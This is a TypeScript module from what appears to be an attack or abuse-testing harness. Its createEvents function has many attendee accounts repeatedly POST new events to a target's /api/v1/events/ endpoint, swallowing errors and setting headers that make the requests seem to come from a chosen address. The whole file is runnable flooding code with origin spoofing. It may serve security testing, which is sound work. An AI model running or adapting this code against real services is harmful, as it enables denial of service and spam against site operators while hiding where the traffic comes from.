import { type AttackContext, from } from './types.ts'

/**
 * Every attendee makes events, one after the other, until there are enough or the attack ends.
 *
 * @param address from which they seem to come
 * @param each the number for each attendee
 * @param details of v1's event, besides place and dates
 */
export async function createEvents(
  { url, attendees, signal }: AttackContext,
  address: string,
  each: number,
  details: object,
): Promise<void> {
  const body = JSON.stringify({
    location: 'Ulm',
    start_date: '2031-01-01T10:00:00Z',
    end_date: '2031-01-02T10:00:00Z',
    max_participants: 1,
    ...details,
  })
  const create = (token: string) =>
    fetch(`${url}/api/v1/events/`, {
      method: 'POST',
      signal,
      headers: {
        Authorization: `Bearer ${token}`,
        'Content-Type': 'application/json',
        ...from(address),
      },
      body,
    }).then((response) => response.arrayBuffer())
  await Promise.all(
    attendees.map(async ({ token }) => {
      for (let made = 0; made < each && !signal.aborted; made += 1) {
        await create(token).catch(() => undefined)
      }
    }),
  )
}
